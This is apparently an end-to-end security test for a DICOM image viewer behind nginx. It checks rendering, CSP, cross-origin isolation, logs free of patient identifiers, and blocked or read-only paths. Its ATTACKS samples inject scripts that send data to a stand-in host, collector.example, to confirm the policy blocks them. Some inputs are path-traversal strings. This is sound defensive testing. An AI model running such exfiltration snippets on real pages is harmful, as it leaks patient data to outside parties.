"""The viewer in a real browser, through nginx with the program's configuration, shows a phantom study."""

from __future__ import annotations

import base64
import json
import os
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from io import BytesIO
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import numpy as np
import pytest
import urllib3
from PIL import Image
from selenium.common.exceptions import WebDriverException
from selenium.webdriver import Chrome
from selenium.webdriver.common.by import By
from selenium.webdriver.support.ui import WebDriverWait

from dataplane.clients.dicomweb import acknowledged_uids
from dataplane.processes.browser import contacted_hosts, open_browser, requested_urls
from dataplane.samples import phantom
from dataplane.store import Store, run_store
from ops.render import RenderedStack

PICTURE = Path(__file__).parents[2] / "docs" / "images" / "viewer.png"
PERSON = "identitycenter_ada@octank.example"
CLAIMS = base64.urlsafe_b64encode(json.dumps({"username": PERSON}).encode()).decode()
ATTACKS = {
    "connect-src": "fetch('https://collector.example/?pixels=1').catch(() => 0)",
    "img-src": "new Image().src = 'https://collector.example/?name=1'",
    "script-src": "document.head.append(Object.assign(document.createElement('script'), {text: 'injected = 1'}))",
}
"""What an injected script would try, by the directive that blocks it."""


@dataclass(frozen=True, kw_only=True)
class Visit:
    """What a browser showed, requested and reported."""

    studies: str
    found: str
    viewport: np.ndarray
    isolated: bool
    requests: list[str]
    messages: list[str]
    blocked: list[str]
    hosts: set[str]


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("viewer")


@pytest.fixture(scope="module")
def store(stack: RenderedStack, folder: Path) -> Iterator[Store]:
    with run_store(folder, stack, replicas=1, viewer=True) as store:
        yield store


@pytest.fixture(scope="module")
def url(store: Store) -> str:
    return f"https://localhost:{store.web.port}"


@pytest.fixture(scope="module")
def study(store: Store) -> str:
    """UID of a study stored with STOW-RS."""
    uid, files = phantom.phantom_study()
    assert len(acknowledged_uids(store.client().store(*files))) == len(files)
    return uid


@pytest.fixture(scope="module")
def visit(store: Store, url: str, study: str, folder: Path) -> Visit:
    """A signed-in person searches for the patient by name and opens the study."""
    with open_browser(folder, store.web.folder / "run" / "tls" / "server.crt") as driver:
        cookie = {"name": "AWSELBAuthSessionCookie-0", "value": "session", "url": url}
        driver.execute_cdp_cmd("Network.setCookie", cookie)
        driver.execute_cdp_cmd("Network.setExtraHTTPHeaders", {"headers": {"X-Amzn-Oidc-Data": f"e30.{CLAIMS}.e30"}})
        console_messages(driver), requested_urls(driver)
        driver.get(url)
        studies = wait_for_text(driver, "PHANTOM, VIOLET")
        press(driver, "Confirm and hide")
        field = "input[type=text]"
        wait(driver, lambda: succeeds(lambda: driver.find_element(By.CSS_SELECTOR, field).send_keys("VIOLET")))
        wait(driver, lambda: "VIOLET" in driver.current_url.upper())
        found = wait_for_text(driver, "PHANTOM, VIOLET")
        press(driver, "PHANTOM, VIOLET")
        press(driver, "Basic Viewer")
        wait(driver, lambda: study in driver.current_url)
        press(driver, "Skip all")
        wait(driver, lambda: picture(driver).max() > 200)
        if os.environ.get("SAVE_PICTURES"):  # for the README
            whole = Image.open(BytesIO(driver.get_screenshot_as_png())).convert("RGB")
            whole.quantize(128).save(PICTURE, optimize=True)
        seen = {
            "viewport": picture(driver),
            "isolated": driver.execute_script("return crossOriginIsolated"),
            "requests": requested_urls(driver),
            "messages": console_messages(driver),
        }
        for attempt in ATTACKS.values():
            driver.execute_script(attempt)
        blocked: list[str] = []
        wait(driver, lambda: len(blocked.extend(console_messages(driver)) or blocked) >= len(ATTACKS))
    return Visit(studies=studies, found=found, blocked=blocked, hosts=contacted_hosts(folder), **seen)


def wait(driver: Chrome, until: Callable[[], Any]) -> None:
    WebDriverWait(driver, 60, poll_frequency=0.2).until(lambda _: until())


def wait_for_text(driver: Chrome, words: str) -> str:
    """The page's text, once it contains `words`."""
    wait(driver, lambda: words in driver.find_element(By.TAG_NAME, "body").text)
    return driver.find_element(By.TAG_NAME, "body").text


def press(driver: Chrome, words: str) -> None:
    """Clicks the element with the text `words`, once it is there."""
    path = f"//*[contains(text(), '{words}')]"
    wait(driver, lambda: succeeds(lambda: driver.find_element(By.XPATH, path).click()))


def succeeds(act: Callable[[], None]) -> bool:
    """Whether an action succeeded: a page that is still rendering hides, moves and replaces elements."""
    try:
        act()
    except WebDriverException:
        return False
    return True


def picture(driver: Chrome) -> np.ndarray:
    """Grey values of the viewport on the screen; one black pixel while there is no viewport."""
    canvases = driver.find_elements(By.CSS_SELECTOR, "canvas.cornerstone-canvas")
    if not canvases:
        return np.zeros((1, 1))
    return np.asarray(Image.open(BytesIO(canvases[0].screenshot_as_png)).convert("L"), dtype=float)


def console_messages(driver: Chrome) -> list[str]:
    """Warnings and errors of the console since the last call."""
    return [entry["message"] for entry in driver.get_log("browser") if entry["level"] in {"WARNING", "SEVERE"}]


def lines(store: Store) -> list[dict[str, Any]]:
    return [json.loads(line) for line in store.web.log.read_text().splitlines()]


def get(store: Store, path: str, method: str = "GET") -> urllib3.BaseHTTPResponse:
    """The response without following redirects; the path is sent unchanged."""
    return store.client().request(method, path, redirect=False)


def test_the_list_of_studies_shows_the_patient(visit: Visit):
    assert phantom.PATIENT_ID in visit.studies


def test_a_patient_is_found_by_name(visit: Visit):
    assert phantom.PATIENT_ID in visit.found


def test_the_image_is_visible(visit: Visit):
    height, width = visit.viewport.shape
    assert visit.viewport.var() > 1000, "a blank viewport"
    middle, outside = visit.viewport[height // 2, width // 2], visit.viewport[height // 4, 20 : width // 8]
    assert 60 < middle < 200, "tissue is grey"
    assert outside.max() < 20, "air is black"
    assert (visit.viewport > 240).mean() > 0.02, "bone is white"


def test_the_page_is_cross_origin_isolated(visit: Visit):
    assert visit.isolated is True


def test_the_browser_requests_only_from_the_store(visit: Visit, url: str):
    urls = {urlsplit(each) for each in visit.requests}
    assert len(urls) > 50
    assert {each.netloc for each in urls if each.scheme not in {"data", "blob"}} == {urlsplit(url).netloc}
    assert visit.hosts <= {"127.0.0.1", "[::1]"}
    assert "127.0.0.1" in visit.hosts


def test_the_content_security_policy_blocks_nothing_needed(visit: Visit):
    tour = "No element was found for the selector supplied to advanceOn"  # a warning of OHIF on a slow page
    assert [one for one in visit.messages if tour not in one] == []


@pytest.mark.parametrize("directive", ATTACKS)
def test_an_injected_script_is_blocked(directive: str, visit: Visit):
    assert [one for one in visit.blocked if "Content Security Policy" in one and directive in one]


def test_the_log_has_the_person_and_the_study_and_no_patient(visit: Visit, store: Store, study: str):
    read = [line for line in lines(store) if line["method"] == "GET" and line["person"]]
    assert {line["person"] for line in read} == {PERSON}
    assert [line for line in read if f"/studies/{study}/" in line["path"] and "/frames/" in line["path"]]
    for log, text in store.logs().items():
        for word in (*phantom.PATIENT.split("^"), phantom.PATIENT_ID, "StudyInstanceUID="):
            assert word.casefold() not in text.casefold(), log
    assert "?" not in store.web.log.read_text()


def test_the_study_of_a_page_is_not_logged(store: Store):
    assert get(store, "/ohif/viewer?StudyInstanceUIDs=1.2.3.4.5").status == 200
    assert "1.2.3.4.5" not in store.web.log.read_text()


def test_no_session_header_reaches_orthanc(visit: Visit, store: Store):
    names = set(store.replicas[0].header_log.read_text().split())
    assert "authorization" in names
    assert not {name for name in names if name in {"cookie", "referer"} or name.startswith("x-amzn")}


def test_the_root_redirects_to_the_viewer_by_path_only(store: Store):
    answer = get(store, "/")
    assert (answer.status, answer.headers["Location"]) == (302, "/ohif/")


@pytest.mark.parametrize(
    ("path", "kind", "caching"),
    [
        ("/ohif/", "text/html", "no-store"),
        ("/ohif/viewer", "text/html", "no-store"),
        ("/ohif/app-config.js", "text/javascript", "private, max-age=3600"),
        ("/ohif/app.bundle.css", "text/css", "private, max-age=3600"),
        ("/ohif/17dd54813d5acc10bf8f.wasm", "application/wasm", "private, max-age=31536000, immutable"),
        ("/dicom-web/studies", "application/dicom+json", "no-store"),
    ],
)
def test_responses_have_content_type_caching_and_security_headers(path: str, kind: str, caching: str, store: Store):
    answer = get(store, path)
    headers = answer.headers
    assert (answer.status, headers["Content-Type"].partition(";")[0], headers["Cache-Control"]) == (200, kind, caching)
    assert headers.getlist("Cross-Origin-Embedder-Policy") == ["require-corp"]
    assert headers.getlist("Cross-Origin-Opener-Policy") == ["same-origin"]
    assert headers.getlist("X-Content-Type-Options") == ["nosniff"]
    assert headers["Referrer-Policy"] == "no-referrer"
    assert headers["Strict-Transport-Security"]


def test_the_nonce_of_inline_scripts_is_used_once(store: Store):
    policies = {get(store, "/ohif/").headers["Content-Security-Policy"] for _ in range(3)}
    assert len(policies) == 3


@pytest.mark.parametrize(
    "path",
    ["/ohif", "/ohif/sw.js", "/ohif/silent-refresh.html", "/ohif/app.bundle.js.map", "/ohif/../system", "/ohif/x/../../system",
     "/app/explorer.html", "/ui/app/", "/system", "/studies", "/studies/1/ohif-dicom-json", "/instances", "/dicom-web/servers"],
)  # fmt: skip
def test_nothing_else_is_reachable(path: str, store: Store):
    assert get(store, path).status == 404


@pytest.mark.parametrize("method", ["POST", "PUT", "DELETE"])
@pytest.mark.parametrize("path", ["/ohif/", "/ohif/viewer", "/ohif/app-config.js"])
def test_the_viewer_is_read_only(path: str, method: str, store: Store):
    assert get(store, path, method).status == 403
